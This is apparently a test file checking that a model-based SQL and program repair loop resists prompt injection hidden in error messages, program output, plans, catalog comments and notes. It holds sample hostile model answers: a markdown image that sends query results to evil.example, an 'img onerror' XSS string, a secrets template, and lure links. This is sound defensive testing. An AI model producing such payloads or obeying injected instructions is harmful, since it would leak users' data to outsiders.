import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import type { Manifest } from '../../../shared/plan/manifest.ts';
import type { Plan } from '../../../shared/plan/plan.ts';
import { manifestOf } from '../../fakes/memory-sandbox.ts';
import { queryPlan } from '../../fakes/planned-run.ts';
import { catalogWith, hostilePrograms, hostileSql, payloads } from '../planner/model/injections.ts';
import { analysis, createScene, program, repair, type Scene } from './scene.ts';

const inputs = 'api dialect catalog notes question language plan failure output earlier'.split(' ');
/** Every line that opens a section, by DSPy's own rule. */
const sectionsOf = (content: string): string[] =>
  Array.from(content.matchAll(/^\s*\[\[ ## (\w+) ## \]\]/gm), ([, name = '']) => name);

const stream = (text: string): Manifest['stdout'] => ({ head: text, tail: text, bytes: 10_000 });
const failed = (text: string): Manifest =>
  manifestOf('r1', {
    outcome: 'failed',
    failure: { class: 'program', type: 'ValueError', message: text, line: 2, traceback: `File "program.py", line 2\n${text}` },
    stdout: stream(text),
    stderr: stream(`ValueError: ${text}`),
  }); // prettier-ignore

const places: [place: string, scene: (text: string) => Scene, error: (text: string) => string][] = [
  ['an error of the warehouse', () => ({ plan: queryPlan }), (text) => `Conversion Error: ${text}`],
  ['an error of a program', () => ({}), (text) => `ValueError: ${text}`],
  ['what a program printed', (text) => ({ manifest: failed(text) }), () => 'ValueError: no'],
  ['the plan that failed', (text) => ({ plan: { ...analysis, understood: text, assumptions: [text], program: `${analysis.program}# ${text}` } }), () => 'ValueError: no'],
  ['a comment of the catalog', (text) => ({ catalog: catalogWith('comment', text) }), () => 'ValueError: no'],
  ['a note', (text) => ({ catalog: catalogWith('note', text) }), () => 'ValueError: no'],
]; // prettier-ignore

/** What is said to a model that repairs. */
async function told(scene: Scene, error: string) {
  const { model, failAndRepair } = createScene([repair({}), repair({}), repair({})], scene);
  await failAndRepair(error, scene.plan === queryPlan ? 'sql' : 'program');
  const messages = model.asked[0]?.messages ?? [];
  assert.ok(messages.length > 1);
  return messages;
}

describe('a failure that wants to be more than data', () => {
  for (const [place, scene, error] of places)
    it(`opens no section as ${place} (${payloads.length} texts)`, async () => {
      for (const sees of ['statistics', 'results'] as const) {
        const plain = await told({ ...scene('plain'), sees }, error('plain'));
        for (const text of payloads) {
          const messages = await told({ ...scene(text), sees }, error(text));
          assert.deepEqual(sectionsOf(messages.at(-1)?.content ?? ''), inputs, text);
          assert.deepEqual(messages.slice(0, -1), plain.slice(0, -1), 'instructions and demos are no data');
        }
      }
    });

  it('opens no section as what failed before', async () => {
    for (const text of payloads) {
      const { failAndRepair, model } = createScene([repair({ program }), repair({}), repair({}), repair({})]);
      const second = await failAndRepair(`ValueError: ${text}`);
      await failAndRepair('TypeError: another', 'program', second);
      const content = model.asked[1]?.messages.at(-1)?.content ?? '';
      assert.match(content, /Attempt 1 failed/);
      assert.deepEqual(sectionsOf(content), inputs, text);
    }
  });
});

const catalog = catalogWith('prompt', '');
const sqlOf = (sql: string): string => repair({ queries: `\`\`\`sql result\n${sql}\n\`\`\`` });
const programOf = (text: string): string => repair({ program: `\`\`\`python\n${text}\n\`\`\`` });
const answerOf = (answer: string): string => repair({ answer });

const obedient: [what: string, plan: Plan, completion: string][] = [
  ...hostileSql.map(([what, sql]): [string, Plan, string] => [what, queryPlan, sqlOf(sql)]),
  ...hostilePrograms.map(([what, text]): [string, Plan, string] => [what, analysis, programOf(text)]),
  ['a program beside a query', queryPlan, programOf('import kaiseki\nkaiseki.answer("Done.")')],
];

const obedientAnswers = [
  '![x](https://evil.example/?n={{table.result[0].count}})',
  'See www.evil.example. {{table.result}}',
  '[things][evil] {{table.result}}',
  '<img src=x onerror=alert()>{{table.result}}',
  '{{table.secrets}}',
  'There are 1000000 things. {{table.result}}',
];

describe('a model that obeys a failure', () => {
  for (const [what, plan, completion] of obedient)
    it(`mends nothing: ${what}`, async () => {
      const { failAndRepair, model } = createScene([completion, completion, completion], { plan, catalog });
      const run = await failAndRepair('ValueError: obey', plan === queryPlan ? 'sql' : 'program');
      assert.deepEqual([run.attempt, run.terminal?.status, model.asked.length], [1, 'failed', 3]);
      assert.match(run.terminal?.problem?.detail ?? '', /could not be repaired/);
    });

  for (const answer of obedientAnswers)
    it(`has its words dropped: ${answer}`, async () => {
      const completion = answerOf(answer);
      const { failAndRepair, planOf } = createScene([completion, completion, completion], {
        plan: queryPlan,
        catalog,
      });
      const run = await failAndRepair('ValueError: obey', 'sql');
      assert.equal((await planOf(run)).answer, null);
    });

  it('changes nothing that a repair is not about', async () => {
    const more = { kind: 'query', title: 'Evil', parentArtifacts: 'secret.csv', limits: '{"attempts": 99}' };
    const { failAndRepair, planOf } = createScene([repair({ program, ...more })]);
    const run = await failAndRepair('ValueError: obey');
    const { queries: _queries, program: _program, ...kept } = analysis;
    assert.equal(run.attempt, 2);
    const { queries: _same, program: _new, ...repaired } = await planOf(run);
    assert.deepEqual(repaired, kept);
  });

  it('leads nobody out of the answer by its note', async () => {
    for (const diagnosis of ['See www.evil.example.', 'See https://evil.example.', 'Write to mailto:evil.']) {
      const { failAndRepair } = createScene([repair({ program, diagnosis })]);
      const run = await failAndRepair('ValueError: obey');
      assert.equal(run.attempts[1]?.note, 'The program failed at first and was corrected.');
    }
  });

  it('is told nothing of hidden columns', async () => {
    for (const sees of ['schema', 'statistics', 'results'] as const)
      assert.ok(!JSON.stringify(await told({ catalog, sees }, 'ValueError: no')).includes('salary'));
  });

  it('mends where it does not obey (negative control)', async () => {
    const { failAndRepair } = createScene([repair({ program })], { catalog });
    assert.equal((await failAndRepair('ValueError: obey')).attempt, 2);
  });
});
